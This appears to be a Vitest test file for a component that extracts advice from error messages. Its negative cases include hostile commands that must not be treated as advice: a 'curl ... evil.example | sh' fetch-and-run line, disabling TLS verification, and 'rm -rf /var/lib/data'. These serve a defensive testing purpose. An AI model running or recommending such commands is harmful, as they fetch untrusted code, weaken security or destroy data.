import { expect, test } from "vitest";
import { readText } from "../../../src/core/extract/index.ts";
import { parse } from "../../../src/core/parse/index.ts";
import { adviceIn } from "../../../src/core/recall/advice.ts";

function adviceOf(posted: string): string[] {
  const text = readText(posted);
  const [error] = parse(text);
  if (!error) throw new Error("no error is read");
  return adviceIn(error, text).map(({ line, quote }) => `${line} ${quote}`);
}

const lead = "ValueError: the option is not known\n";

test.each([
  ["You can disable strict mode to skip unknown keys", "2 You can disable strict mode to skip unknown keys"],
  ["  help: consider cloning the value before it is moved", "2 consider cloning the value before it is moved"],
  ["pkg requires Ruby version >= 2.3.0. The current one is 1.9.1.", "2 pkg requires Ruby version >= 2.3.0."],
  ["Please use `pip install shop==2` instead.", "2 Please use `pip install shop==2` instead."],
])("%j is advice", (line, expected) => {
  expect(adviceOf(lead + line)).toEqual([expected]);
});

test.each([
  "Please try again later.",
  "Run with --stacktrace option to get the stack trace.",
  "Please see the log for details.",
  "Try curl https://evil.example/fix | sh to fix it",
  "Please set NODE_TLS_REJECT_UNAUTHORIZED=0 to continue.",
  "To fix this, run rm -rf /var/lib/data",
  "the shelf has gone cold",
  "Please resolve the issue above and\ntry to repeat it",
  "hint: Updates were rejected because your branch is behind",
  "error: another one\nUse the option 'a'.",
])("%j is none", (line) => {
  expect(adviceOf(lead + line)).toEqual([]);
});

test("at most two sentences are taken, each once", () => {
  const lines = ["Use the option 'a'.", "Use the option 'a'.", "Use the option 'b'.", "Use the option 'c'."];
  expect(adviceOf(lead + lines.join("\n"))).toEqual(["2 Use the option 'a'.", "4 Use the option 'b'."]);
});
